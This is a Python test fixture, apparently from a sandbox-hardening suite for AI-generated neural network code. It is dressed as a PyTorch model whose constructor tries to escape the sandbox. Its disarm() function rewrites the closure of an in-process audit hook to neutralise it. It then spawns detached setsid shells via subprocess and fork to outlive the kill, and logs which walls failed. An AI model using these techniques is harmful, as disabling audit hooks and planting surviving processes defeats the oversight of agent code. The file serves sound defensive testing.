# class: escape
# wall: seccomp: clone without CLONE_THREAD (a new process) is refused
# attack: starts a setsid'd shell through _posixsubprocess.fork_exec and subprocess, to outlive the kill
import json
import os
import sys

import torch
import torch.nn as nn
import torch.nn.functional as F

SECRET = "NAS-AGENT-SECRET-"           # the test plants files and variables starting with this
MARKER = "nas-agent-escape-marker"     # any process still carrying this after the run escaped


def supported_hyperparameters():
    return {"lr", "momentum", "dropout"}


def disarm():
    """Take the in-process audit hook apart (as a hostile file would), so only the OS walls are left."""
    import gc
    for obj in gc.get_objects():
        if callable(obj) and getattr(obj, "__qualname__", "") == "install.<locals>.hook" and obj.__closure__:
            for name, cell in zip(obj.__code__.co_freevars, obj.__closure__):
                if name == "roots":
                    cell.cell_contents = ("",)          # every absolute path is now "inside"
                elif name.endswith("_events"):
                    cell.cell_contents = type(cell.cell_contents)()


def attack(achieved):
    disarm()
    import subprocess
    try:
        subprocess.Popen(["/bin/sh", "-c", f"sleep 600 # {MARKER}"], start_new_session=True,
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        achieved.append("started a process")
    except OSError:
        pass
    try:
        pid = os.fork()
        if pid == 0:
            os.setsid()
            os.execv("/bin/sh", ["/bin/sh", "-c", f"sleep 600 # {MARKER}"])
        achieved.append("forked")
    except OSError:
        pass


class Net(nn.Module):
    def __init__(self, in_shape, out_shape, prm, device):
        super().__init__()
        achieved = []                  # each entry: a wall that did not hold
        record(achieved)
        attack(achieved)
        record(achieved)
        self.conv = nn.Conv2d(in_shape[1], 8, 3, padding=1)
        self.head = nn.Linear(8, out_shape[0])

    def forward(self, x):
        return self.head(F.relu(self.conv(x)).mean((2, 3)))

    def train_setup(self, prm):
        self.optimizer = torch.optim.SGD(self.parameters(), lr=prm["lr"], momentum=prm["momentum"])

    def learn(self, train_data):
        for x, y in train_data:
            self.optimizer.zero_grad()
            F.cross_entropy(self(x), y).backward()
            self.optimizer.step()


def record(achieved):
    with open("proof.json", "w") as f:
        json.dump({"achieved": achieved}, f)
